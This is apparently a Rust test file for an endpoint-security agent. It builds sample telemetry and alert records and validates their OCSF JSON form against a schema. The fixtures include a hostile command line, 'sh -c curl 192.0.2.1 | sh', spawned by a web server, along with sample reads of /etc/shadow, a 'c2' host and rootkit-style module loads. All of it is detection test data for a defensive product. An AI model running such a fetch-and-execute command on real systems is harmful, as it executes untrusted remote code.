//! Every kind of record as OCSF, checked by the schema itself (`tests/ocsf/validate.py`).

use record::*;
use serde_json::Value;
use std::collections::BTreeSet;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;

const NOW_US: i64 = 1_760_000_000_123_456;

fn host() -> Host {
    Host {
        name: "web-7".into(),
        machine_id: "0123456789abcdef0123456789abcdef".into(),
        boot_id: "11111111-2222-3333-4444-555555555555".into(),
        kernel: "6.12.1".into(),
        os: "Debian GNU/Linux 12 (bookworm)".into(),
        addresses: vec!["not an address".into(), "192.0.2.7".into(), "2001:db8::7".into()],
    }
}

fn id() -> EventId {
    EventId { agent: AgentId([0xa5; 16]), boot: 3, lane: Lane::Telemetry, seq: 42 }
}

fn user(uid: u32, name: &str) -> User {
    User { uid, gid: uid, euid: uid, egid: uid, loginuid: 1000, capabilities: 0x1ff_ffff_ffff, name: name.into() }
}

/// A process with everything filled, below `parent`.
fn process(pid: u32, path: &str, args: &[&str], uid: u32, parent: Option<Arc<Proc>>) -> Arc<Proc> {
    let parent_key = parent.as_ref().map_or(0, |parent| parent.info.key);
    let mut info = Process {
        key: ProcessKey::from_ticks(pid, u64::from(pid) * 100).0,
        parent_key,
        comm: path.rsplit('/').next().unwrap_or_default().into(),
        exe: FileId { path: path.into(), inode: 77, device: 8 << 20 | 1, sha256: vec![0xcd; 32], unlinked: false },
        cwd: "/srv".into(),
        user: user(uid, if uid == 0 { "root" } else { "www-data" }),
        namespaces: Namespaces { mnt: 1, pid: 2, net: 3, user: 4, uts: 5, ipc: 6, cgroup: 7 },
        container: "f".repeat(64),
        cgroup: "/system.slice/docker-ff.scope".into(),
        started_us: NOW_US - 5_000_000,
        session: pid,
        tty: "pts/0".into(),
        ns_pid: 12,
        ..Process::default()
    };
    info.set_args(args.iter().copied());
    Proc::new(info, parent)
}

/// A tree of four: init, service, shell, tool.
fn full() -> Arc<Proc> {
    let init = process(1, "/usr/lib/systemd/systemd", &["/sbin/init"], 0, None);
    let service = process(400, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], 33, Some(init));
    let shell = process(9000, "/bin/sh", &["sh", "-c", "curl 192.0.2.1 | sh\n"], 33, Some(service));
    process(9001, "/usr/bin/curl", &["curl", "192.0.2.1", "数据"], 33, Some(shell))
}

/// A process of which nothing is known but that it is, and one whose parent is known by key only.
fn bare() -> [Arc<Proc>; 2] {
    let orphan = Process { key: 9, parent_key: 5, args_truncated: true, ..Process::default() };
    [Proc::new(Process::default(), None), Proc::new(orphan, None)]
}

fn files() -> Vec<Activity> {
    let file =
        FileId { path: "/etc/passwd".into(), inode: 5, device: 1 << 20 | 3, sha256: vec![1; 32], unlinked: true };
    (0..=13)
        .flat_map(|op| {
            let full = FileActivity {
                op,
                file: file.clone(),
                target: "/etc/passwd.new".into(),
                flags: 0o2001,
                mode: 0o4755,
                uid: 0,
                gid: u32::MAX,
                path_truncated: true,
            };
            [full, FileActivity { op, ..FileActivity::default() }].map(Activity::File)
        })
        .collect()
}

fn flows() -> Vec<Activity> {
    let ends: [(&[u8], &[u8]); 3] = [
        (&[192, 0, 2, 7], &[203, 0, 113, 9]),
        (&[0; 16], &[0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]),
        (&[], &[1, 2]),
    ];
    let mut flows = Vec::new();
    for op in 0..=5 {
        for (local, remote) in ends {
            for (errno, port) in [(0, 443), (111, 0), (115, 65_535), (110, 70_000)] {
                flows.push(Activity::Net(NetActivity {
                    op,
                    protocol: if errno == 0 { 6 } else { 17 },
                    local_ip: local.to_vec(),
                    local_port: port,
                    remote_ip: remote.to_vec(),
                    remote_port: port,
                    errno,
                    remote_name: if errno == 0 { "c2.example.test".into() } else { String::new() },
                }));
            }
        }
    }
    flows
}

fn processes() -> Vec<Activity> {
    let mut list = vec![
        Activity::Exec(Exec {
            previous_exe: "/bin/sh".into(),
            from_memory: true,
            elevated: true,
            script: "/tmp/x.sh".into(),
            denied: true,
            path_truncated: true,
        }),
        Activity::Exec(Exec::default()),
        Activity::Fork(Fork { child_key: ProcessKey::from_ticks(77, 900).0 }),
        Activity::Exit(Exit { code: 1, signal: 9, lived_us: 1_234_567 }),
        Activity::Exit(Exit::default()),
        Activity::Signal(SignalSent { signal: 9, target_pid: 700, to_agent: true }),
        Activity::Namespace(Namespace { call: "unshare".into(), flags: 0x1000_0000 }),
        Activity::Namespace(Namespace::default()),
    ];
    let target = Some(full().info.clone());
    for (call, request) in [("ptrace", 16), ("ptrace", 4), ("process_vm_writev", 0), ("process_vm_readv", 0), ("", 0)] {
        for target in [target.clone(), None] {
            list.push(Activity::Access(ProcessAccess {
                call: call.into(),
                request,
                target,
                target_pid: 700,
                errno: request % 3,
            }));
        }
    }
    for call in ["setuid", "setresuid", "setgid", "capset", "prctl", ""] {
        let (before, after) = (user(33, "www-data"), user(0, "root"));
        list.push(Activity::Privilege(Privilege { call: call.into(), before, after, argument: u64::MAX, errno: 1 }));
    }
    list
}

fn system() -> Vec<Activity> {
    let mut list = vec![
        Activity::Dns(Dns {
            name: "x.example.test".into(),
            query_type: 16,
            server_ip: vec![8, 8, 8, 8],
            server_port: 53,
        }),
        Activity::Dns(Dns { query_type: 9999, ..Dns::default() }),
        Activity::IoUring(IoUring { opcode: 18, name: "OPENAT".into(), path: "/etc/shadow".into(), polled: true }),
        Activity::IoUring(IoUring::default()),
        Activity::Lost(Lost { class: "file".into(), place: "ring".into(), count: 12, first_seq: 1, last_seq: 12 }),
        Activity::Lost(Lost::default()),
    ];
    for call in ["memfd_create", "mprotect", "mmap", ""] {
        list.push(Activity::Memory(Memory { call: call.into(), name: "x".into(), flags: 7 }));
    }
    for call in ["init_module", "finit_module", "delete_module"] {
        list.push(Activity::Module(Module { call: call.into(), name: "/tmp/hide.ko".into(), errno: 1 }));
        list.push(Activity::Module(Module { call: call.into(), ..Module::default() }));
    }
    for command in [0, 5, 18, 7] {
        list.push(Activity::Bpf(BpfCall { command, program_type: 5, name: "hide".into(), errno: 0 }));
        list.push(Activity::Bpf(BpfCall { command, errno: 1, ..BpfCall::default() }));
    }
    for removed in [false, true] {
        list.push(Activity::Mount(Mount {
            removed,
            source: "/dev/sda1".into(),
            target: "/mnt/x".into(),
            fs_type: "ext4".into(),
            flags: 4096,
        }));
        list.push(Activity::Mount(Mount { removed, ..Mount::default() }));
    }
    list
}

fn logs() -> Vec<Activity> {
    let log = |source: &str, fields: &[(&str, &str)]| {
        Activity::Log(Log {
            source: source.into(),
            origin: "/var/log/x.log".into(),
            host: "web-7".into(),
            message: "the line".into(),
            truncated: source == "nginx",
            fields: fields.iter().map(|(name, value)| Pair::new(*name, *value)).collect(),
        })
    };
    let web =
        [("cs-method", "GET"), ("cs-uri-stem", "/a"), ("cs-uri-query", "b=1"), ("cs-host", "h"), ("sc-status", "200")];
    let mut list = vec![
        Activity::Log(Log::default()),
        log("syslog", &[("app", "cron"), ("app", "twice"), ("app", "three times")]),
        log("nginx", &web),
        log("nginx", &[("cs-method", "PROPFIND"), ("c-ip", "192.0.2.1"), ("cs-user-agent", "x"), ("cs-uri-stem", "-")]),
        log("sshd", &[("user", "root"), ("outcome", "failed"), ("src_ip", "2001:db8::1")]),
        log("sudo", &[("user", "alice"), ("outcome", "accepted")]),
        log("auth", &[("user", "bob"), ("outcome", "changed")]),
        log(
            "kubernetes.audit",
            &[("verb", "create"), ("user.username", "system:anonymous"), ("sourceIPs", "192.0.2.9")],
        ),
    ];
    for operation in ["CreateUser", "DescribeInstances", "StopLogging", "é", "UpdateTrail", "DeleteTrail"] {
        let source = if operation == "é" { "cloudtrail.amazonaws.com" } else { "192.0.2.3" };
        list.push(log("cloudtrail", &[("eventName", operation), ("eventSource", "iam"), ("sourceIPAddress", source)]));
    }
    for method in ["CONNECT", "DELETE", "HEAD", "OPTIONS", "POST", "PUT", "TRACE", "PATCH"] {
        list.push(log("apache", &[("cs-method", method)]));
    }
    list
}

fn observed() -> Vec<Activity> {
    let pairs = vec![Pair::new("tag", "elf"), Pair::new("entropy", "7.9")];
    let state = FileState { sha256: vec![7; 32], mode: 0o100_644, uid: 0, gid: 4, size: 12, modified_us: NOW_US };
    let file = FileId { path: "/srv/www/x.php".into(), inode: 9, device: 1 << 20 | 1, ..FileId::default() };
    let mut list = vec![Activity::Scan(Scan::default()), Activity::Asset(Asset::default())];
    for (engine, family, pid) in [("yara", "miner", 0), ("webshell", "", 0), ("rootkit", "hidden-process", 700)] {
        list.push(Activity::Scan(Scan {
            engine: engine.into(),
            name: "Name".into(),
            family: family.into(),
            file: if pid == 0 { file.clone() } else { FileId::default() },
            member: "a/b.php".into(),
            score: 140,
            pid,
            details: pairs.clone(),
            cause: "write".into(),
        }));
    }
    for change in ["created", "modified", "deleted", "attributes", ""] {
        list.push(Activity::Integrity(Integrity {
            change: change.into(),
            file: file.clone(),
            before: (change != "created").then(|| state.clone()),
            after: (change != "deleted").then(|| FileState { sha256: Vec::new(), ..state.clone() }),
            diff: if change == "modified" { "-a\n+b\n".into() } else { String::new() },
            package: if change == "created" { "openssl".into() } else { String::new() },
        }));
    }
    for (kind, name, version) in
        [("package", "openssl", "3.0.15"), ("user", "eve", ""), ("port", "sshd", ""), ("package", "", "")]
    {
        for change in ["present", "added", "removed", "changed"] {
            let (kind, change, name, version) = (kind.into(), change.into(), name.into(), version.into());
            let key = "k".into();
            list.push(Activity::Asset(Asset {
                kind,
                change,
                key,
                name,
                version,
                details: pairs.clone(),
                before: vec![],
            }));
        }
    }
    list
}

fn requests() -> Vec<Activity> {
    let full = HttpActivity {
        site: "shop".into(),
        method: "POST".into(),
        scheme: "https".into(),
        host: "shop.example".into(),
        path: "/cart".into(),
        query: "id=1".into(),
        version: "2".into(),
        status: 403,
        request_bytes: 12,
        response_bytes: 900,
        duration_us: 4_100,
        client_ip: vec![192, 0, 2, 7],
        client_port: 40_000,
        server_ip: vec![192, 0, 2, 1],
        server_port: 443,
        upstream: "127.0.0.1:8080".into(),
        user_agent: "curl/8".into(),
        ja4: "t13d1516h2_8daaf6152771_e5627efa2ab1".into(),
        ja3: "0123456789abcdef0123456789abcdef".into(),
        order: "o1".into(),
        sni: "shop.example".into(),
        tls: "1.3".into(),
        reason: "score 10 of 5".into(),
        score: 10,
        rules: vec![942_100, 949_110],
        ..HttpActivity::default()
    };
    let decided = HttpDecision::ALL.iter().map(|decision| HttpActivity { decision: *decision as i32, ..full.clone() });
    let odd = HttpActivity { method: "PROPFIND".into(), ..HttpActivity::default() };
    decided.chain([odd, HttpActivity::default()]).map(Activity::Http).collect()
}

fn activities() -> Vec<Activity> {
    [files(), flows(), processes(), system(), logs(), observed(), requests()].concat()
}

/// Every activity with a full process, bare ones, and none at all.
fn events() -> Vec<Event> {
    let mut subjects = vec![Some(full()), None];
    subjects.extend(bare().map(Some));
    let mut events = Vec::new();
    for activity in activities() {
        for process in &subjects {
            events.push(Event { seq: 42, time_us: NOW_US, process: process.clone(), activity: activity.clone() });
        }
    }
    events
}

fn alerts() -> Vec<Alert> {
    let full = |event: &Event| Alert {
        id: "a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5-3-a-1".into(),
        rule: "5a3f2a54-0000-4000-8000-000000000001".into(),
        rule_version: "0123456789abcdef".into(),
        title: "Shell started by a web server".into(),
        severity: Severity::High as i32,
        techniques: vec![
            Technique { id: "T1059.004".into(), tactics: vec!["execution".into(), "made-up".into()] },
            Technique { id: "T1105".into(), tactics: vec![] },
            Technique::default(),
        ],
        time_us: NOW_US,
        decided_us: NOW_US + 900,
        matches: vec![Match { field: "Image".into(), value: "/bin/sh".into() }],
        evidence: Batch::pack(host(), [event]),
        responses: vec![Response { action: "kill-tree".into(), lease_s: 0 }],
        agent: "a5".repeat(16),
        drill: "D01".into(),
        title_zh: "网站服务启动了命令行".into(),
        rule_set: 7,
    };
    let mut alerts: Vec<Alert> = events().iter().map(full).collect();
    alerts.push(Alert::default());
    alerts.extend(Severity::ALL.iter().map(|severity| Alert { severity: *severity as i32, ..Alert::default() }));
    alerts
}

fn vulnerabilities() -> Vec<serde_json::Value> {
    let whole = ocsf::Vulnerable {
        agent: "0123456789abcdef0123456789abcdef",
        host: "web",
        time_us: 1_760_000_000_000_000,
        name: "CVE-2024-1000",
        cves: &["CVE-2024-1000".to_owned()],
        severity: Severity::Critical,
        score: Some(9.8),
        vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        summary: "A buffer overflows.",
        package: "openssl",
        version: "3.0.9-1",
        fixed: Some("3.0.11-1"),
        exploited: true,
    };
    let bare =
        ocsf::Vulnerable { name: "DSA-1-1", cves: &[], score: None, vector: "", summary: "", fixed: None, ..whole };
    vec![ocsf::vulnerability(&whole), ocsf::vulnerability(&bare)]
}

fn incidents() -> Vec<Incident> {
    let stage = |tactic: &str, techniques: &[&str]| Stage {
        tactic: tactic.into(),
        techniques: techniques.iter().map(|id| (*id).into()).collect(),
        first_us: NOW_US,
        alerts: vec!["a-1".into()],
    };
    let base = Incident {
        id: "INC-a-1".into(),
        title: "Shell started by a web server on web-7".into(),
        severity: Severity::Critical,
        status: IncidentStatus::Open,
        first_us: NOW_US,
        last_us: NOW_US + 5,
        hosts: vec!["a5".repeat(16)],
        accounts: vec!["www-data".into()],
        processes: vec![format!("{}:1.2", "a5".repeat(16))],
        stages: vec![stage("execution", &["T1059.004", "T1203"]), stage("impact", &[]), stage("", &[])],
        alerts: vec!["a-1".into(), "a-2".into()],
        orders: vec!["ord-1".into()],
        reasons: vec!["first alert".into(), "same process tree".into()],
        drill: String::new(),
        joins: Vec::new(),
    };
    let statuses = [IncidentStatus::Open, IncidentStatus::Contained, IncidentStatus::Closed];
    let mut list: Vec<Incident> = statuses.map(|status| Incident { status, ..base.clone() }).into();
    list.push(Incident { hosts: vec![], stages: vec![], reasons: vec![], drill: "D01".into(), ..base });
    list
}

/// Every action in every state, dry, applied and undone, with its order, without parameters, and without an order.
fn receipts() -> Vec<(Receipt, Option<Order>)> {
    let mut list = Vec::new();
    let given = [
        ("process", ProcessKey::from_ticks(9001, 5).to_string()),
        ("path", "/tmp/dropper".to_owned()),
        ("sha256", "ab".repeat(32)),
        ("address", "203.0.113.0/24".to_owned()),
        ("destination", "198.51.100.0/24".to_owned()),
        ("prefix", "198.51.100.7".to_owned()),
        ("name", "shop.example.org".to_owned()),
    ];
    let given: std::collections::BTreeMap<String, String> =
        given.into_iter().map(|(name, value)| (name.to_owned(), value)).collect();
    let actions = (ActionKind::ALL.iter()).chain([&ActionKind::Unknown]);
    for action in actions {
        for state in 0..=6 {
            for (mode, parameters) in [(0, given.clone()), (1, given.clone()), (2, Default::default())] {
                let order = Order {
                    id: "ord-1".into(),
                    action: *action as i32,
                    mode,
                    parameters,
                    by: "user:alice".into(),
                    reason: "contain".into(),
                    alert: "a-1".into(),
                    ..Order::default()
                };
                let receipt = Receipt {
                    order: "ord-1".into(),
                    agent: "a5".repeat(16),
                    state,
                    time_us: NOW_US,
                    took_us: 1500,
                    touched: vec!["pid 9001 curl".into()],
                    observed: vec!["pid 9001 is gone".into()],
                    fault: if state == 3 { "action.protected".into() } else { String::new() },
                    message: "text".into(),
                    lease_ends_us: NOW_US,
                    local_order: (mode == 1).then(|| order.clone()),
                };
                list.push((receipt, (mode != 1).then_some(order)));
            }
        }
    }
    list.push((Receipt::default(), None));
    list
}

fn samples() -> Vec<Value> {
    let mut all = Vec::new();
    for host in [host(), Host::default()] {
        all.extend(events().iter().map(|event| ocsf::event(&host, &id(), event)));
        all.extend(alerts().iter().map(|alert| ocsf::alert(&host, alert)));
        all.extend(receipts().iter().map(|(receipt, order)| ocsf::receipt(&host, receipt, order.as_ref())));
    }
    all.extend(incidents().iter().map(ocsf::incident));
    all.extend(vulnerabilities());
    all
}

/// The shape without which two events differ only in values: one of each is enough for the slow validator.
fn shape(value: &Value) -> String {
    match value {
        Value::Object(object) => {
            let fields: Vec<String> = object.iter().map(|(name, value)| format!("{name}:{}", shape(value))).collect();
            format!("{{{}}}", fields.join(","))
        }
        Value::Array(items) => items.iter().map(shape).collect::<BTreeSet<_>>().into_iter().collect(),
        Value::Number(number) if number.as_u64().is_some_and(|number| number < 9_000_000) => number.to_string(),
        Value::Number(_) => "n".into(),
        Value::String(text) if text.is_empty() => "empty".into(),
        Value::String(_) => "s".into(),
        Value::Bool(_) => "b".into(),
        Value::Null => "null".into(),
    }
}

/// Python of the environment that `make setup` makes, when it is there.
fn python() -> Option<PathBuf> {
    let named = std::env::var_os("GARRISON_VENV").map(PathBuf::from);
    let usual = || Some(Path::new(&std::env::var_os("HOME")?).join(".cache/garrison/venv"));
    let python = named.or_else(usual)?.join("bin/python3");
    python.exists().then_some(python)
}

/// Says past the capture of the test's output that the schema was not asked; where CI runs that is a fault.
fn skipped(why: &str) {
    assert!(!std::env::var("CI").is_ok_and(|value| value == "true"), "CI must not skip this: {why}");
    let _ = writeln!(std::io::stderr(), "skipped: OCSF validation: {why}");
}

/// Feeds events to the validator. `None` (and a line that says why) when it is not installed.
fn validate(events: &[Value]) -> Option<(bool, String)> {
    let Some(python) = python() else {
        skipped("ocsf-json-schema is not installed (make setup)");
        return None;
    };
    let lines: String = events.iter().map(|event| format!("{event}\n")).collect();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/ocsf/validate.py");
    let pipes = || Stdio::piped();
    let mut command = Command::new(python);
    let mut child = command.arg(script).stdin(pipes()).stdout(pipes()).stderr(pipes()).spawn().ok()?;
    let mut input = child.stdin.take()?;
    // From a thread: the script may print before it has read everything, and both pipes are bounded.
    let feeder = std::thread::spawn(move || input.write_all(lines.as_bytes()).is_ok());
    let output = child.wait_with_output().ok()?;
    let errors = String::from_utf8_lossy(&output.stderr);
    if output.status.code() == Some(2) {
        skipped(errors.trim());
        return None;
    }
    let fed = feeder.join().is_ok_and(|written| written);
    Some((output.status.success() && fed, format!("{}{errors}", String::from_utf8_lossy(&output.stdout))))
}

#[test]
fn every_record_is_valid_ocsf() {
    let mut seen = BTreeSet::new();
    let distinct: Vec<Value> = samples().into_iter().filter(|sample| seen.insert(shape(sample))).collect();
    let Some((valid, text)) = validate(&distinct) else { return };
    let tail: Vec<&str> = text.lines().rev().take(40).collect();
    assert!(valid, "{}", tail.join("\n"));
    println!("{}", text.lines().last().unwrap_or_default());
}

#[test]
fn the_validator_refuses_what_is_wrong() {
    let event = Event { seq: 42, time_us: NOW_US, process: Some(full()), activity: Activity::Exec(Exec::default()) };
    let good = ocsf::event(&host(), &id(), &event);
    let spoil = |path: &str, value: Value| {
        let mut bad = good.clone();
        *bad.pointer_mut(path).unwrap() = value;
        bad
    };
    let bad = [
        spoil("/type_uid", 100_702.into()),
        spoil("/device", serde_json::json!({})),
        spoil("/process/pid", "9001".into()),
        spoil("/metadata/profiles", serde_json::json!(["cloud", "container", "linux/linux_users"])),
        spoil("/unmapped", "text".into()),
        spoil("/metadata/version", "1.7.0".into()),
    ];
    for event in bad {
        let Some((valid, text)) = validate(&[event]) else { return };
        assert!(!valid && text.starts_with("line 1 1007"), "{text}");
    }
}

#[test]
fn no_event_at_all_is_no_success() {
    let Some((valid, text)) = validate(&[]) else { return };
    assert!(!valid && text.starts_with("0 of 0"), "{text}");
}

#[test]
fn every_activity_kind_has_a_sample_and_a_named_class() {
    let kinds: BTreeSet<Kind> = activities().iter().map(Activity::kind).collect();
    assert_eq!(kinds.len(), Kind::ALL.len());
    for event in events() {
        let (class, activity) = ocsf::class_uid(&event.activity);
        let json = ocsf::event(&host(), &id(), &event);
        assert_eq!(json["type_uid"], u64::from(class) * 100 + u64::from(activity));
        assert_eq!(json["metadata"]["uid"], id().to_string());
        let plain = matches!(event.activity, Activity::Log(_)) && class == 0;
        assert!(plain || json["class_name"] != "Base Event");
    }
}

#[test]
fn an_exec_names_image_parent_and_all_ancestors() {
    let event = Event { seq: 42, time_us: NOW_US, process: Some(full()), activity: Activity::Exec(Exec::default()) };
    let json = ocsf::event(&host(), &id(), &event);
    assert_eq!(json["process"]["file"]["path"], "/usr/bin/curl");
    assert_eq!(json["process"]["parent_process"]["cmd_line"], "sh -c curl 192.0.2.1 | sh\n");
    assert_eq!(json["actor"]["process"]["file"]["path"], "/bin/sh");
    let names: Vec<&str> =
        json["process"]["ancestry"].as_array().unwrap().iter().map(|entity| entity["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["sh", "nginx", "systemd"]);
    assert_eq!(json["process"]["file"]["hashes"][0]["value"], "cd".repeat(32));
    assert_eq!(json["device"]["ip"], "192.0.2.7");
    assert_eq!(json["time"], NOW_US / 1000);
}
